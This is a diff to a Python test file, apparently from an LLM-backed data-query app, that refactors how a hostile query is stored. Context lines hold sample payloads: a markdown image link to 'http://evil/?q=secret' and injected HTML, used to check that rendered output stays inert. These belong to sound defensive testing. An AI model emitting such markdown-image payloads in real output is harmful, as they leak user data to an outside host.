@@ -7,7 +7,7 @@ import json
 
 import pandas as pd
 
-from lumiere.db import session_scope
+from lumiere.db import saved_id, session_scope
 from lumiere.models import User
 from lumiere.services.ask import run_sql
 from tests.api.conftest import client, make_user  # noqa: F401 - the API fixtures, requested by name below
@@ -15,6 +15,7 @@ from tests.fake_llm import FakeLlm
 from tests.helpers.api import upload
 from tests.helpers.charts import assert_inert as assert_figure_inert
 from tests.helpers.markdown import RENDER, assert_inert
+from tests.helpers.rows import stored
 
 HOSTILE_CELLS = [
     "![x](http://evil/?q=secret)",
@@ -31,11 +32,11 @@ def hostile_query(api_client, user) -> int:
     source = upload(api_client, user, frame, "evil.csv")
     table = source["tables"][0]["name"]
     with session_scope() as session:
-        account = session.get(User, user["id"])
+        account = stored(session, User, user["id"])
         sql = f'SELECT name, amount FROM "{table}"'
-        return run_sql(
+        return saved_id(run_sql(
             session, account, source_id=source["id"], sql=sql, question="<b>Top</b> ![q](http://evil/q)"
-        ).query.id
+        ).query)
 
 
 def assert_no_live_markup(html: str) -> None:
